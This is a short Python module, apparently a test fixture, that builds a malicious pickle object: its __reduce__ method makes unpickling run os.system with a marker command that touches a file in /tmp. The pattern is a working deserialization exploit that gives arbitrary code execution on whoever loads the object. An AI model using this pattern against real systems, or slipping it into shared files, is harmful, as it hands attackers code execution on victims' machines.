"""Returns an object that runs a program where it is unpickled."""

import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/backprop-hostile-reduce",)


def attack(path, port, pid):
    return Evil()
